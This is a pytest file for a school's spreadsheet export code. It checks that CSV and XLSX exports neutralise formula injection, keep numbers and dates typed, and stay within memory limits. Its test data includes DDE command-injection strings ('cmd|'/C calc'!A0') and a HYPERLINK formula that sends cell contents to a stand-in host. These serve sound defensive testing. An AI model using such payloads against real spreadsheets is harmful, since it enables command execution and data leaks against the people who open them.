"""Exports: no cell can run, types survive, long lists fit in little memory."""

import csv
import tracemalloc
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from io import BytesIO, StringIO

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from senco.documents.spreadsheets import Column, Sheet, csv_cell, looks_like_formula, write_csv, write_xlsx

MADE_AT = datetime(2026, 9, 7, 9, 42, tzinfo=UTC)
SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫"
UNSEEN = [
    "",
    " ",
    "\u00a0",
    "\u200b",
    "\ufeff",
    "\u202e",
    "\u2060",
    "\t",
    "\r",
    "\n",
    "\u00ad",
    " \u200b ",
    "\x00",
    "\u3000",
]
FORMULAS = [f"{before}{sign}cmd|'/C calc'!A0" for before in UNSEEN for sign in SIGNS]
FORMULAS += [
    '=HYPERLINK("http://example.invalid/"&A1)',
    "=1+1",
    "@SUM(1)",
    "-2+3",
    "+44 1632 960001",
    "\tplain",
    "\rplain",
]
HARMLESS = [
    "Isla Marlowe",
    "a=b",
    "O'Neil-Smith",
    "3-4 times",
    "ẹlérìndé",
    "",
    "'=1",
    "1 + 1",
    "mother@example.org",
]


def sheet(rows, columns=("Name", "Note"), title="SEN register"):
    return Sheet(title, [Column(heading) for heading in columns], rows, "Dana Marlowe (SENCO)", MADE_AT)


def xlsx(made):
    target = BytesIO()
    write_xlsx(made, target)
    target.seek(0)
    return target


def xlsx_cells(made):
    book = openpyxl.load_workbook(xlsx(made))
    return [list(row) for row in book.worksheets[0].iter_rows()]


def csv_rows(made):
    target = BytesIO()
    write_csv(made, target)
    return list(csv.reader(StringIO(target.getvalue().decode("utf-8-sig"), newline="")))


# Formulas -----------
def test_a_workbook_written_without_care_does_hold_formulas():
    """Control: the check below can find a formula."""
    careless = openpyxl.Workbook()
    careless.active.append(["=1+1"])
    target = BytesIO()
    careless.save(target)
    assert [cell.data_type for cell in openpyxl.load_workbook(target).active[1]] == ["f"]


def test_no_cell_of_a_workbook_is_a_formula():
    cells = xlsx_cells(
        sheet([[text, text] for text in FORMULAS], columns=["=1+1", "@x"], title="=cmd|' /C calc'!A0")
    )
    assert len(cells) == len(FORMULAS) + 1
    assert {cell.data_type for row in cells for cell in row if cell.value is not None} == {"s"}
    assert [cell.value for cell in cells[0]] == ["=1+1", "@x"]


def test_a_workbook_holds_no_formula_no_link_and_no_macro_in_its_parts():
    with zipfile.ZipFile(xlsx(sheet([[text, "http://example.invalid/"] for text in FORMULAS]))) as parts:
        everything = b"".join(parts.read(name) for name in parts.namelist())
        assert not [name for name in parts.namelist() if "vba" in name.lower() or "external" in name.lower()]
    assert b"<f>" not in everything
    assert b"hyperlink" not in everything


@pytest.mark.parametrize("text", FORMULAS)
def test_dangerous_text_gets_an_apostrophe_in_csv(text):
    assert looks_like_formula(text)
    assert csv_cell(text).startswith("'")


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_stays_as_it_is(text):
    assert csv_cell(text) == text


@given(st.text())
def test_no_csv_cell_starts_like_a_formula(text):
    assert csv_cell(text)[:1] not in set(SIGNS) | {"\t", "\r", "\n"}


def test_telephone_numbers_stay_readable():
    numbers = ["+44 1632 960001", "01632 960001", "00447700900123"]
    assert [row[0].value for row in xlsx_cells(sheet([[number, ""] for number in numbers]))[1:]] == numbers
    assert [
        row[0].lstrip("'") for row in csv_rows(sheet([[number, ""] for number in numbers]))[1:]
    ] == numbers


# Types -----------
def test_numbers_and_dates_are_real_in_a_workbook():
    row = [
        3,
        2.5,
        Decimal("12.50"),
        date(2026, 9, 7),
        datetime(2026, 9, 7, 9, 42, tzinfo=UTC),
        True,
        None,
        -4,
    ]
    cells = xlsx_cells(sheet([row], columns=[str(number) for number in range(len(row))]))[1]
    assert [cell.value for cell in cells[:3]] == [3, 2.5, 12.5]
    assert [cell.number_format for cell in cells[:3]] == ["General", "General", "#,##0.00"]
    assert cells[3].value == datetime(2026, 9, 7)
    assert cells[3].number_format == "dd/mm/yyyy"
    assert cells[4].value == datetime(2026, 9, 7, 10, 42)  # school time: British Summer Time
    assert [cells[5].value, cells[6].value, cells[7].value] == ["Yes", None, -4]


def test_numbers_and_dates_in_csv():
    row = [3, -2.5, Decimal("12.50"), date(2026, 9, 7), datetime(2026, 1, 7, 9, 42, tzinfo=UTC), False, None]
    rows = csv_rows(sheet([row], columns=[str(number) for number in range(len(row))]))
    assert rows[1] == ["3", "-2.5", "12.50", "2026-09-07", "2026-01-07 09:42", "No", ""]


@pytest.mark.parametrize(
    "value", [9_990_000_017_000_123, float("inf"), float("nan"), date(1899, 12, 31), 10**40]
)
def test_what_excel_cannot_hold_exactly_is_kept_as_text(value):
    assert xlsx_cells(sheet([[value, "x"]]))[1][0].value == str(value)


def test_text_too_long_for_a_cell_is_cut_visibly():
    value = xlsx_cells(sheet([["x" * 40_000, ""]]))[1][0].value
    assert len(value) == 32_767
    assert value.endswith("x…")


def test_characters_that_no_file_can_hold_are_left_out():
    text = "Zoë \x00\x08\ud800 王 😀\nsecond line"
    assert xlsx_cells(sheet([[text, ""]]))[1][0].value == "Zoë  王 😀\nsecond line"
    assert csv_rows(sheet([[text, ""]]))[1][0] == "Zoë  王 😀\nsecond line"


# Shape -----------
def test_csv_follows_rfc_4180_with_a_byte_order_mark():
    target = BytesIO()
    assert write_csv(sheet([['say "hi"', "a,b"], ["two\nlines", ""]]), target) == 2
    assert target.getvalue() == b'\xef\xbb\xbfName,Note\r\n"say ""hi""","a,b"\r\n"two\nlines",\r\n'


def test_the_header_is_styled_and_stays_in_sight():
    page = openpyxl.load_workbook(xlsx(sheet([["Isla", ""]]))).worksheets[0]
    assert page.freeze_panes == "A2"
    assert page.print_title_rows == "$1:$1"
    assert page["A1"].font.bold
    assert page.auto_filter.ref == "A1:B2"


def test_the_second_page_says_who_and_when():
    about = openpyxl.load_workbook(xlsx(sheet([["Isla", ""]]))).worksheets[1]
    said = {row[0].value: row[1].value for row in about.iter_rows()}
    assert said["Made by"] == "Dana Marlowe (SENCO)"
    assert said["Made at"] == "7 September 2026, 10:42"
    assert said["Rows"] == "1"


@pytest.mark.parametrize("title", ["Year 3/4: needs [all]?", "x" * 80, "'quoted'", "", "*?"])
def test_any_title_makes_a_sheet_name_that_opens(title):
    name = openpyxl.load_workbook(xlsx(sheet([], title=title))).worksheets[0].title
    assert 1 <= len(name) <= 31


def test_file_names_are_plain():
    assert (
        sheet([], title="SEN register: Year 7 / été").file_name("xlsx")
        == "sen-register-year-7-ete-2026-09-07.xlsx"
    )


@pytest.mark.parametrize("write", [write_xlsx, write_csv])
def test_twenty_thousand_rows_fit_in_little_memory(write, tmp_path):
    rows = ([f"Pupil {number}", "x" * 200, number, date(2026, 9, 7)] for number in range(20_000))
    with (tmp_path / "list").open("wb") as target:
        tracemalloc.start()
        count = write(sheet(rows, columns=["Name", "Note", "Number", "Date"]), target)
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    assert count == 20_000
    assert peak < 8_000_000
